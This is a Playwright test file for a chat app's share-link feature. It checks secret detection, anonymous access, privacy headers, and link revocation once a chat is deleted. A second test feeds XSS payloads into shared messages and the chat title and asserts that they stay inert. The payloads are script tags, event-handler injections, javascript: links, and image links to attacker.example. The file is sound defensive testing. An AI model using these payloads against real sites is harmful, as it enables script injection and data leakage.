import AxeBuilder from '@axe-core/playwright';
import type { Browser, BrowserContext, Page } from '@playwright/test';
import { text, thinking, toolCall } from '../fixtures/model-servers/steps';
import { expect, test } from '../fixtures/test';
import { ShareDialog, SharePage } from '../pages/share-page';

/** A browser of somebody else: no cookies, no storage, and a list of what its console said. */
async function strangersBrowser(browser: Browser): Promise<{ context: BrowserContext; errors: string[] }> {
  const context = await browser.newContext({ locale: 'en-GB' });
  const errors: string[] = [];
  context.on('console', (message) => message.type() === 'error' && errors.push(message.text()));
  context.on('weberror', (error) => errors.push(String(error.error())));
  return { context, errors };
}

/** The link as it looks while its scripts are still on their way: as the server drew it. */
async function openWithoutScripts(context: BrowserContext, url: string): Promise<Page> {
  const page = await context.newPage();
  await page.route(/\/assets\/.*\.js$/, () => {});
  await page.goto(url, { waitUntil: 'commit' });
  return page;
}

test('a chat is shared, read by a stranger, and gone everywhere once it is deleted', async ({
  chat,
  sidebar,
  model,
  page,
  browser,
  navi,
}) => {
  const secret = `password=hunter2${'x'}`;
  model.setScript((request) => {
    if (request.lastUserText !== 'Note it') return 'Keys of the boathouse';
    const isAnswered = request.messages.some((message) => message.role === 'tool');
    return isAnswered
      ? [text('It is **noted**.')]
      : [thinking('Where to put it?'), toolCall('scratchpad', { action: 'write', section: 'keys', text: secret })];
  });
  const sessionId = await chat.start('Note it');
  await expect(chat.copyAnswer()).toBeVisible();
  const dialog = new ShareDialog(page);
  await dialog.open();
  await expect(dialog.findings).toContainText('1 likely secret would be seen');
  await expect(dialog.findings).not.toContainText('hunter2');
  await expect(dialog.dialog.getByRole('button', { name: 'Create link' })).toBeDisabled();
  expect((await new AxeBuilder({ page }).include('dialog').analyze()).violations).toEqual([]);
  const url = await dialog.issue();
  await expect(dialog.dialog.getByRole('img', { name: 'The link as a QR code' })).toBeVisible();
  await dialog.close();
  await expect(page.getByRole('button', { name: 'Shared', exact: true })).toBeVisible();

  const token = url.split('#share=')[1] ?? '';
  expect(token).toMatch(/^[\w-]{43}$/);
  const { context, errors } = await strangersBrowser(browser);
  const share = await SharePage.open(context, url);
  await expect(share.conversation.getByText('It is noted.')).toBeVisible();
  await expect(share.conversation.getByRole('button', { name: /Wrote down/ })).toBeVisible();
  await expect(share.page.getByRole('textbox')).toHaveCount(0);
  for (const colorScheme of ['light', 'dark'] as const) {
    await share.page.emulateMedia({ colorScheme });
    expect((await new AxeBuilder({ page: share.page }).analyze()).violations).toEqual([]);
  }

  // The chat goes on; whoever looks again sees it.
  model.setScript(['Later words.']);
  await chat.send('And then?');
  await expect(chat.text('Later words.')).toBeVisible();
  await share.page.reload();
  await expect(share.conversation.getByText('Later words.')).toBeVisible();

  for (const request of share.requests) {
    const headers = await request.allHeaders();
    expect(new URL(request.url()).origin, 'asks nobody else').toBe(navi.url);
    expect(request.url(), 'the token is in no request line').not.toContain(token);
    expect(JSON.stringify(headers), 'nor in a header').not.toContain(token);
    expect(Object.keys(headers)).not.toContain('cookie');
    expect(headers.referer ?? '', request.url()).toBe('');
    expect(Object.keys(headers)).not.toContain('authorization');
  }
  const asked = share.requests.map((request) => new URL(request.url()).pathname);
  expect(asked.filter((path) => path.startsWith('/trpc'))).toEqual([]);
  expect(asked.filter((path) => path.startsWith('/api'))).toEqual(['/api/shared/view', '/api/shared/view']);
  expect(
    asked.some((path) => path.startsWith('/assets/client-')),
    'nothing of the client',
  ).toBe(false);
  expect(await context.cookies()).toEqual([]);
  const early = await openWithoutScripts(context, url);
  await expect(early.getByText('Later words.')).toBeVisible();
  await expect(early.getByText('And then?')).toBeInViewport();
  await early.close();
  expect(errors).toEqual([]);

  const ask = (path: string, body: object) =>
    context.request.post(`${navi.url}${path}`, { data: { token, ...body } }).then((answer) => answer.status());
  expect(await ask('/trpc/shares.view', {})).toBe(200);
  const answer = (await context.request.get(`${navi.url}/`)).headers();
  expect(answer).toMatchObject({ 'cache-control': 'no-store', 'referrer-policy': 'no-referrer' });
  expect(answer['x-robots-tag']).toContain('noindex');
  const name = (await chat.heading.textContent()) ?? '';
  await sidebar.choose(name, 'Delete');
  await expect(page).toHaveURL(/\/$/);
  expect(await ask('/trpc/shares.view', {})).toBe(404);
  expect(await ask('/trpc/shares.messages', { beforeSeq: 1000 })).toBe(404);
  expect(await ask('/api/shared/files', { fileId: sessionId })).toBe(404);
  await share.page.reload();
  await expect(share.title).toHaveText('This link leads nowhere');
  await context.close();
});

const attacks = [
  '<script>window.attacked = 1</script>',
  '<img src=x onerror="window.attacked = 1">',
  '<svg/onload=window.attacked=1>',
  '[click me](javascript:window.attacked=1)',
  '<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>',
  '![x](https://attacker.example/pixel.png?leak=1)',
  '![x](//attacker.example/p.png)',
  '$\\href{javascript:window.attacked=1}{click}$',
].join('\n\n');

test('what tries to attack a reader lies inert in every text of a share', async ({
  chat,
  sidebar,
  model,
  page,
  browser,
  navi,
}) => {
  model.setScript((request) => {
    if (!request.lastUserText.includes('attacked')) return 'A name';
    const isAnswered = request.messages.some((message) => message.role === 'tool');
    return isAnswered
      ? [thinking(attacks), text(attacks)]
      : [thinking(attacks), toolCall('scratchpad', { action: 'write', section: attacks, text: attacks })];
  });
  await chat.start(attacks);
  await expect(chat.copyAnswer()).toBeVisible();
  await sidebar.openRow.press('F2');
  const field = page.getByRole('textbox', { name: 'Name of the chat' });
  await field.fill('<img src=x onerror="window.attacked = 1">');
  await field.press('Enter');
  await expect(chat.heading).toContainText('<img');
  const dialog = new ShareDialog(page);
  await dialog.open();
  const url = await dialog.issue();

  const { context, errors } = await strangersBrowser(browser);
  const share = await SharePage.open(context, url);
  await expect(share.title).toContainText('<img src=x');
  // Everything that opens is opened.
  const folded = share.conversation.locator('[aria-expanded="false"]');
  while ((await folded.count()) > 0) await folded.first().click();
  await expect(share.conversation.getByText('click me').first()).toBeVisible();
  await share.page.waitForLoadState('networkidle');
  expect(await share.page.evaluate(() => 'attacked' in window)).toBe(false);
  await expect(share.page.locator('body :is(iframe, script:not([src]), a[href^="javascript"])')).toHaveCount(0);
  const early = await openWithoutScripts(context, url);
  await expect(early.getByRole('heading', { level: 1 })).toContainText('<img src=x');
  await expect(early.locator('body :is(iframe, script:not([src]), a[href^="javascript"], img)')).toHaveCount(0);
  expect(await early.evaluate(() => 'attacked' in window)).toBe(false);
  for (const request of share.requests) expect(new URL(request.url()).origin).toBe(navi.url);
  expect(errors).toEqual([]);
  await context.close();
});
